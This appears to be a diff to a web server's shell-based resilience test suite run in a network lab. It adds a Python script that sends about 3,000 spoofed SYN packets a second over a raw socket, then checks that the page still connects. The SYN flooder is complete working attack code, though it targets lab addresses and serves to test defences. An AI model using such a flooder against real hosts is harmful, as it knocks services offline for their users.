@@ -111,6 +111,43 @@ done
     fail "one who guesses shuts another out"
 pass "guessing is slowed down, for who guesses"
 
+# Three thousand half-open connections a second, from addresses that do not exist: the page opens all the same.
+cat >syn.py <<'PYTHON'
+import os, random, socket, struct, sys, time
+line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+line.bind(("eth0", 0))
+mine, box = (bytes.fromhex(mac.replace(":", "")) for mac in sys.argv[1:3])
+def add(data):
+    n = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while n >> 16:
+        n = (n & 0xffff) + (n >> 16)
+    return ~n & 0xffff
+def syn():
+    ends = bytes([10, 78, 0, random.randrange(100, 251), 10, 78, 0, 1])
+    tcp = bytearray(struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), 443, random.getrandbits(32), 0, 0x50, 2, 64240, 0, 0))
+    tcp[16:18] = struct.pack("!H", add(ends + struct.pack("!HH", 6, len(tcp)) + tcp))
+    ip = bytearray(struct.pack("!BBHHHBBH", 0x45, 0, 40, random.getrandbits(16), 0x4000, 64, 6, 0) + ends)
+    ip[10:12] = struct.pack("!H", add(ip))
+    return box + mine + b"\x08\0" + ip + tcp
+began, sent = time.monotonic(), 0
+while not os.path.exists("syn.end") and time.monotonic() - began < 60:
+    while sent < 3000 * (time.monotonic() - began):
+        line.send(syn())
+        sent += 1
+        if sent == 1000:
+            open("syn.on", "w").close()
+    time.sleep(0.001)
+print(sent, "in", round(time.monotonic() - began, 1), "s")
+PYTHON
+mac() { ip -n "$1" -o link show eth0 | sed 's/.*ether \([0-9a-f:]*\).*/\1/'; }
+lab_start syn "${LAB_RECEIVER[2]}" python3 syn.py "$(mac "${LAB_RECEIVER[2]}")" "$(mac "$LAB_SERVER")"
+until_true 20 test -e syn.on || fail "no flood: $(cat syn.err)"
+for i in $(seq 6); do run 1 curl -sSk -o /dev/null --max-time 20 -w '%{time_connect}\n' $url/ >connect && cat connect || echo 99; done >connects
+touch syn.end
+lab_wait syn || fail "no flood: $(cat syn.err)"
+[ "$(sort -n connects | sed -n 5p | cut -d. -f1)" = 0 ] || fail "connections wait in a flood ($(cat syn.out)): $(paste -sd' ' connects)"
+pass "half-open connections give way to others: $(cat syn.out), connected after $(paste -sd' ' connects) s"
+
 # A stranger takes all the connections there are, some without a byte, some in the middle of a handshake, some in the middle of a request.
 cat >hold.py <<'PYTHON'
 import socket, ssl, time
